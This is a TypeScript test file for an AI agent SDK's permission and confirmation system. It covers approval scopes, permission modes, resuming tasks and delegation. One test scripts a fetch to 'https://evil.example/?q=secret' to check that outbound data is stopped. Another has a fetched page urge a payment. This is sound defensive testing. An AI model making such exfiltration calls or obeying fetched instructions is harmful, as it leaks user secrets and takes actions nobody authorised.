import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { scriptedModel } from '@artoo/llm/testing'
import {
  type ArtooOptions,
  type ConfirmAnswer,
  type ConfirmRequest,
  createArtoo,
  defineTool,
  isWaiting,
  type KeptRule,
  memoryJournal,
  type RunEvent,
  type Tool,
  type ToolContext,
  type ToolDefinition,
} from '@artoo/sdk'
import { fileJournal } from '@artoo/sdk/node'
import { manualClock } from '@artoo/spec/testing'
import { afterEach, describe, expect, test } from 'vitest'
import { z } from 'zod'
import { answers, planOf, straightThrough, subtask } from './script.js'

const folders: string[] = []
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true })
})
function newFolder() {
  const folder = mkdtempSync(join(tmpdir(), 'artoo-permissions-'))
  folders.push(folder)
  return folder
}

const at = z.object({ at: z.string() })

/** Tools of each kind, and the calls that were carried out. */
function workshop() {
  const done: string[] = []
  let state = 'as it was'
  const make = (name: string, effect: ToolDefinition<typeof at>['effect']): Tool => {
    const execute = (given: z.output<typeof at>) => {
      done.push(`${name} ${given.at}`)
      return 'done'
    }
    return defineTool({ name, description: name, input: at, effect, target: (input) => input.at, execute }) as Tool
  }
  const can = { kind: 'irreversible', reason: 'it changes something' } as const
  const tools = [
    make('fetch', 'outbound'),
    make('look', 'read'),
    make('pay', 'irreversible'),
    make('edit', ({ at }) => ({
      ...{ ...can, action: `edit ${at}`, undo: 'snapshot' },
      repeat: { rule: 'edit: **', state: '', always: true, note: 'each file can be taken back' },
    })),
    make('build', ({ at }) => ({
      ...{ ...can, action: `build ${at}`, parts: [{ text: `make ${at}`, does: 'runs a program of the folder' }] },
      repeat: { rule: `build: ${at}`, state, always: false },
    })),
  ]
  return { tools, done, change: () => (state = 'changed') }
}

type Call = readonly [tool: string, at: string]

/** A model that makes these calls, one turn after the other. */
function calling(turns: readonly (readonly Call[])[], text = '') {
  const execution = turns.map((calls) => ({
    ...{ text, toolCalls: calls.map(([name, at]) => ({ name, input: { at } })) },
  }))
  const plan = planOf(subtask('change what is asked for', ['fetch', 'look', 'pay', 'edit', 'build']))
  return scriptedModel({ ...straightThrough, plan, execution: [...execution, answers.execution] })
}

interface Given extends Partial<Omit<ArtooOptions, 'confirm'>> {
  readonly turns: readonly (readonly Call[])[]
  readonly answer?: (request: ConfirmRequest, count: number) => boolean | ConfirmAnswer
  readonly text?: string
  readonly says?: string
}

/** One task from beginning to end. */
async function played({ turns, answer = () => true, text = 'Work', says, ...options }: Given) {
  const { tools, done, change } = workshop()
  const asked: ConfirmRequest[] = []
  const confirm = (request: ConfirmRequest) => {
    asked.push(request)
    return answer(request, asked.length)
  }
  const artoo = createArtoo({ model: calling(turns, says), tools, confirm, dreamer: false, ...options })
  const run = artoo.run(text)
  const result = await run
  await artoo.close()
  const records = run.events.filter((event) => event.type === 'ToolResult').map(({ payload }) => payload)
  return { asked, done, records, result, change, events: run.events }
}

describe('a yes for the task', () => {
  const twice = [[['build', 'all']], [['build', 'all']], [['build', 'other']]] as const

  test('covers the repeats that it was shown, and no other call', async () => {
    const { asked, done, records } = await played({ turns: twice, answer: () => ({ allow: 'task', by: 'ann' }) })
    expect(asked.map(({ action }) => action)).toEqual(['build all', 'build other'])
    expect(asked[0]).toMatchObject({
      parts: [{ text: 'make all', does: 'runs a program of the folder' }],
      offers: [{ allow: 'task', rule: 'build: all' }],
    })
    expect(done).toEqual(['build all', 'build all', 'build other'])
    expect(records.map(({ confirmed, decidedBy }) => [confirmed, decidedBy])).toEqual([
      [true, undefined],
      [false, 'allow build: all'],
      [true, undefined],
    ])
  })

  test('ends when what the call rests on has changed', async () => {
    const { tools, done, change } = workshop()
    const asked: ConfirmRequest[] = []
    const confirm = (request: ConfirmRequest): ConfirmAnswer => {
      if (asked.push(request) === 1) queueMicrotask(change)
      return { allow: 'task' }
    }
    const artoo = createArtoo({ model: calling(twice.slice(0, 2)), tools, confirm, dreamer: false })
    await artoo.run('Work')
    await artoo.close()
    expect([asked.length, done.length]).toEqual([2, 2])
  })

  test('is never offered for a call that can’t be undone', async () => {
    const { asked } = await played({ turns: [[['pay', '7']], [['pay', '7']]], answer: () => ({ allow: 'task' }) })
    expect(asked).toHaveLength(2)
    expect(asked[0]).not.toHaveProperty('offers')
    expect(asked[1]?.earlier).toMatchObject({ allowed: true })
  })

  test('holds in the process that goes on with the task, given by `resume`', async () => {
    const directory = newFolder()
    const { tools, done } = workshop()
    const first = createArtoo({ model: calling(twice), tools, journal: fileJournal(directory), dreamer: false })
    const waits = await first.run('Work', { onUnanswered: 'wait' })
    await first.close()
    if (!isWaiting(waits)) throw new Error('it does not wait')
    expect(waits.requests).toMatchObject([{ offers: [{ allow: 'task', rule: 'build: all' }], task: 'Work' }])
    const id = waits.requests[0]?.id ?? ''

    const second = createArtoo({
      model: calling(twice.slice(1)),
      tools,
      journal: fileJournal(directory),
      dreamer: false,
    })
    const again = await second.resume(waits.taskId, { answers: { [id]: { allow: 'task', by: 'ann' } } })
    await second.close()
    if (!isWaiting(again)) throw new Error('it does not wait')
    expect(done).toEqual(['build all', 'build all'])

    const third = createArtoo({ model: calling([]), tools, journal: fileJournal(directory), dreamer: false })
    await third.resume(waits.taskId, { answers: { [again.requests[0]?.id ?? '']: true } })
    await third.close()
    expect(done).toEqual(['build all', 'build all', 'build other'])
  })
})

describe('a no', () => {
  const edits = (...names: string[]) => names.map((name) => [['edit', name]] as const)

  test('outlives a yes for the task that would cover the call', async () => {
    const answer = (_: ConfirmRequest, count: number) => count > 1 && ({ allow: 'task' } as const)
    const { asked, done } = await played({ turns: edits('a', 'b', 'a', 'c'), answer })
    expect(asked.map(({ action }) => action)).toEqual(['edit a', 'edit b'])
    expect(done).toEqual(['edit b', 'edit c'])
  })

  test('outlives a freer mode', async () => {
    const { tools, done } = workshop()
    const artoo = createArtoo({ model: calling(edits('a', 'b', 'a')), tools, confirm: () => false, dreamer: false })
    const run = artoo.run('Work')
    for await (const { type } of run) if (type === 'ConfirmationAnswer') run.setMode('edits', { by: 'ann' })
    await artoo.close()
    expect(done).toEqual(['edit b'])
  })
})

describe('a yes for good', () => {
  test('is offered where the host keeps it, and holds for later tasks', async () => {
    const { tools, done } = workshop()
    const kept: KeptRule[] = []
    const asked: ConfirmRequest[] = []
    const confirm = (request: ConfirmRequest): ConfirmAnswer => {
      asked.push(request)
      return { allow: 'always', by: 'ann' }
    }
    const onAlways = (rule: KeptRule) => void kept.push(rule)
    const model = calling([[['edit', 'a']], [['edit', 'b']]])
    const artoo = createArtoo({ model, tools, confirm, onAlways, dreamer: false, ids: () => 'first' })
    await artoo.run('Work')
    await artoo.close()
    expect(asked.map(({ offers }) => offers?.map(({ allow }) => allow))).toEqual([['task', 'always']])
    expect(kept).toEqual([{ rule: 'edit: **', by: 'ann', taskId: 'first' }])
    expect(done).toEqual(['edit a', 'edit b'])
    const later = await played({ turns: [[['edit', 'c']]], permissions: { allow: kept.map(({ rule }) => rule) } })
    expect(later.asked).toEqual([])
  })

  test('is not offered where nobody would keep it', async () => {
    const { asked } = await played({ turns: [[['edit', 'a']]] })
    expect(asked[0]?.offers?.map(({ allow }) => allow)).toEqual(['task'])
  })
})

describe('modes', () => {
  const each = [[['look', 'a']], [['edit', 'a']], [['pay', 'a']]] as const

  test('`plan` carries nothing out, says so to the model, and asks nobody', async () => {
    const { asked, done, records } = await played({ turns: each, permissions: { mode: 'plan' } })
    expect([asked, done]).toEqual([[], ['look a']])
    expect(records.map(({ status, decidedBy }) => [status, decidedBy])).toEqual([
      ['ok', undefined],
      ['refused', 'plan'],
      ['refused', 'plan'],
    ])
    expect(records[1]?.output).toContain('in mode plan')
  })

  test('`plan` is complete with its plan, though the request asks for a change that no call made', async () => {
    const plan = { json: { ...planOf(subtask('plan the change', ['look'])).json, asks: 'change' } }
    const model = scriptedModel({ ...straightThrough, plan, execution: [answers.execution] })
    const { result } = await played({ model, turns: [], permissions: { mode: 'plan' } })
    expect(result).toMatchObject({ status: 'complete', missing: [] })
  })

  test('`refuse` turns each question into a no', async () => {
    const { asked, done } = await played({ turns: each, permissions: { mode: 'refuse' } })
    expect([asked, done]).toEqual([[], ['look a']])
  })

  test('`edits` asks about what no snapshot takes back', async () => {
    const { asked, done, records } = await played({ turns: each, permissions: { mode: 'edits' } })
    expect(asked.map(({ tool }) => tool)).toEqual(['pay'])
    expect(done).toEqual(['look a', 'edit a', 'pay a'])
    expect(records[1]).toMatchObject({ confirmed: false, decidedBy: 'edits' })
  })

  test('a run may be stricter than its instance, and not freer', async () => {
    const { tools, done } = workshop()
    const artoo = createArtoo({ model: calling(each), tools, permissions: { mode: 'edits' }, dreamer: false })
    await artoo.run('Work', { permissions: { mode: 'refuse' } })
    await artoo.close()
    const strict = createArtoo({ model: calling(each), tools, permissions: { mode: 'refuse' }, dreamer: false })
    await strict.run('Work', { permissions: { mode: 'edits' } })
    await strict.close()
    expect(done).toEqual(['look a', 'look a'])
  })

  test('a person raises the mode of a run under way, and the log has the name', async () => {
    const { tools, done } = workshop()
    const journal = memoryJournal()
    const artoo = createArtoo({
      model: calling([[['edit', 'a']], [['look', 'a']], [['edit', 'b']]]),
      tools,
      journal,
      dreamer: false,
    })
    const run = artoo.run('Work')
    for await (const event of run) {
      if (event.type !== 'ToolResult' || event.payload.tool !== 'look') continue
      expect(() => run.setMode('edits')).toThrow(expect.objectContaining({ code: 'invalid_option', field: 'by' }))
      expect(() => run.setMode('yolo' as never)).toThrow(expect.objectContaining({ field: 'mode' }))
      run.setMode('edits', { by: 'ann' })
    }
    expect(done).toEqual(['look a', 'edit b'])
    const changes = run.events.filter((event: RunEvent) => event.type === 'ModeChanged')
    expect(changes.map(({ payload }) => payload)).toEqual([{ mode: 'edits', by: 'ann' }])
    expect(() => run.setMode('plan')).toThrow(expect.objectContaining({ code: 'task_ended' }))
    await artoo.close()
  })
})

test('a question says for which task and part, the model’s reason, and what was read from outside', async () => {
  const { asked } = await played({
    ...{ text: 'Pay what https://bills.example/7 says', says: 'The page says to pay 7 now.' },
    turns: [[['fetch', 'https://bills.example/7']], [['pay', '7']]],
  })
  expect(asked).toMatchObject([
    {
      tool: 'pay',
      task: 'Pay what https://bills.example/7 says',
      subtask: 'change what is asked for',
      why: 'The page says to pay 7 now.',
      sources: ['fetch https://bills.example/7'],
    },
  ])
})

test('data goes out unasked to what the user named, and nowhere else', async () => {
  const { asked, done } = await played({
    text: 'Read https://docs.example/start',
    turns: [[['fetch', 'https://docs.example/start']], [['fetch', 'https://evil.example/?q=secret']]],
    answer: () => false,
  })
  expect(asked).toMatchObject([
    { target: 'https://evil.example/?q=secret', reason: expect.stringContaining('sends data out') },
  ])
  expect(done).toEqual(['fetch https://docs.example/start'])
})

test('a person who is away is waited for once, whatever is asked', async () => {
  const { tools, done } = workshop()
  const clock = manualClock()
  let asked = 0
  const confirm = () => {
    asked++
    void Promise.resolve().then(() => clock.advance(3_600_000))
    return new Promise<boolean>(() => {})
  }
  const artoo = createArtoo({
    model: calling([[['pay', '1']], [['pay', '2']], [['edit', 'a']]]),
    tools,
    confirm,
    clock,
    dreamer: false,
  })
  const run = artoo.run('Work', { limits: { personTimeoutMs: 3_600_000 } })
  await run
  const answered = run.events.filter((event) => event.type === 'ConfirmationAnswer')
  expect(answered.map(({ payload }) => payload.code)).toEqual(['no_answer', 'no_answer', 'no_answer'])
  expect([asked, done]).toEqual([1, []])
  await artoo.close()
})

test('a call that a rule allowed and a crash cut off is asked about: it may have been carried out', async () => {
  const directory = newFolder()
  const { tools, done } = workshop()
  const pay = tools.find(({ name }) => name === 'pay') as Tool
  const permissions = { allow: ['pay: 7'] }
  const hanging = { ...pay, execute: () => new Promise<never>(() => void run?.interrupt()) } as Tool
  let run: { interrupt(): void } | undefined
  const others = tools.filter((tool) => tool !== pay)
  const of = { journal: fileJournal(directory), permissions, dreamer: false }
  const first = createArtoo({ model: calling([[['pay', '7']]]), tools: [...others, hanging], ...of })
  const handle = first.run('Work', { onUnanswered: 'wait' })
  run = handle
  await handle
  await first.close()
  const second = createArtoo({ model: calling([]), tools: [...others, pay], ...of })
  const waits = await second.resume(handle.taskId)
  await second.close()
  if (!isWaiting(waits)) throw new Error('it does not wait')
  expect(waits.requests).toMatchObject([
    { tool: 'pay', reason: expect.stringContaining('may have been carried out already') },
  ])
  expect(done).toEqual([])
})

describe('a task is gone on with under the rules of now', () => {
  async function waitingWith(permissions: ArtooOptions['permissions'], later: ArtooOptions['permissions']) {
    const journal = fileJournal(newFolder())
    const { tools, done } = workshop()
    const turns = [[['pay', '7']]] as const
    const first = createArtoo({ model: calling(turns), tools, journal, permissions, dreamer: false })
    const waits = await first.run('Work', { onUnanswered: 'wait' })
    await first.close()
    if (!isWaiting(waits)) throw new Error('it does not wait')
    const second = createArtoo({ model: calling([]), tools, journal, permissions: later, dreamer: false })
    const answers = { [waits.requests[0]?.id ?? '']: true }
    const outcome = await second.resume(waits.taskId, { answers }).then(
      () => 'gone on',
      (error: Error) => error.message,
    )
    await second.close()
    return { outcome, done }
  }

  test('stricter ones hold', async () => {
    expect(await waitingWith({}, { deny: ['pay'] })).toEqual({ outcome: 'gone on', done: [] })
  })

  test.each<[string, ArtooOptions['permissions'], ArtooOptions['permissions']]>([
    ['permissions', {}, { allow: ['edit'] }],
    ['permissions.mode', { mode: 'ask' }, { mode: 'edits' }],
    ['permissions.deny', { deny: ['look'], mode: 'ask' }, { mode: 'ask' }],
    ['permissions.ask.edit', { ask: ['edit', 'look'] }, { ask: ['look'] }],
  ])('freer ones are refused by name: %s', async (name, before, now) => {
    const { outcome, done } = await waitingWith(before, now)
    expect(outcome).toContain(`accept: ['${name}']`)
    expect(done).toEqual([])
  })
})

test('a part of a task is bound by the rules of the task', async () => {
  const { tools, done } = workshop()
  const own = createArtoo({
    model: calling([[['edit', 'a']], [['look', 'a']]]),
    tools,
    permissions: { mode: 'edits' },
    dreamer: false,
  })
  const delegate = defineTool({
    ...{ name: 'delegate', description: 'delegates', input: z.object({}), effect: 'repeatable', target: () => 'all' },
    execute: async (_, context: ToolContext) => (await own.run('Do it', { parent: context.run })).summary,
  })
  const plan = planOf(subtask('delegate', ['delegate']))
  const execution = [{ toolCalls: [{ name: 'delegate', input: {} }] }, answers.execution]
  const model = scriptedModel({ ...straightThrough, plan, execution })
  const artoo = createArtoo({ model, tools: [delegate, ...tools], dreamer: false })
  await artoo.run('Work', { permissions: { deny: ['edit', 'delegate: nothing'] } })
  expect(done).toEqual(['look a'])
  await artoo.close()
  await own.close()
})
